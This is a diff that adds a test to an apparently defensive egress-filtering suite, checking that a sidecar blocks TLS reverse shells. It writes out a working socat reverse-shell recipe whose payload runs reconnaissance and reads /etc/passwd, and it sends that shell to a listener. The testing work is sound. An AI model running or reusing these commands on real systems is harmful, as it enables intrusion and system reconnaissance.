@@ -14,6 +14,7 @@ import tempfile
 from pathlib import Path
 
 from clients_kit.checks import Failed, Skipped, Tally, expect
+from clients_kit.programs import until
 from egress_kit.world import OTHER, PATH, WEB, World
 
 
@@ -90,6 +91,29 @@ def tls_other_offer(world):
                         "-alpn", "postgresql", input="")
     expect("denied", "access denied" in done.stderr, True)
     world.sidecar.recorded(reason="egress-protocol", detail="tls on a port granted to https")
+
+
+SHELL = "EXEC:sh -c 'id; uname -a; ls /; cat /etc/passwd'"
+
+
+def tls_shell(world):
+    """A reverse shell over TLS, which is not opened here, fails by the name that led to it, or that it says."""
+    heard, keys = world.folder / "shell.heard", world.folder / "keys"
+    options = f"bind={OTHER},reuseaddr,fork,verify=0,cert={keys / 'cert.pem'},key={keys / 'key.pem'}"
+    world.start("shells", program("socat"), "-u", f"OPENSSL-LISTEN:8443,{options}", f"OPEN:{heard},creat,append")
+    world.listening(OTHER, 8443)
+    world.in_far(program("socat"), "-t", "2", SHELL, f"OPENSSL:{OTHER}:8443,verify=0")
+    until("the listener hears a shell where nothing is in between", lambda: heard.exists() and heard.read_text(), 10)
+    heard.write_text("")
+    for target, reason in (
+        (f"OPENSSL:{OTHER}:8443,verify=0", "egress-no-name"),
+        ("OPENSSL:login.example:8443,verify=0", "policy-no-rule"),
+        ("OPENSSL:secure.example:443,verify=0,nosni", "egress-tls-nameless"),
+        ("OPENSSL:secure.example:443,verify=0,snihost=stranger.example", "egress-tls-name"),
+    ):
+        done = world.in_pod(program("socat"), "-t", "2", SHELL, target)
+        refused(world, done, reason=reason)
+    expect("heard", heard.read_text(), "")
 
 
 def program(name):
@@ -245,6 +269,7 @@ CHECKS = [
     ("tls: name that is not granted", tls_other_name, "denied.example", "policy-no-rule"),
     ("tls: no name", tls_without_name),
     ("tls: other offer", tls_other_offer),
+    ("tls: reverse shell", tls_shell),
     ("ssh where it is granted", ssh_granted),
     ("ssh on a port granted to http", ssh_on_http),
     ("postgres on a port granted to http", postgres_on_http),
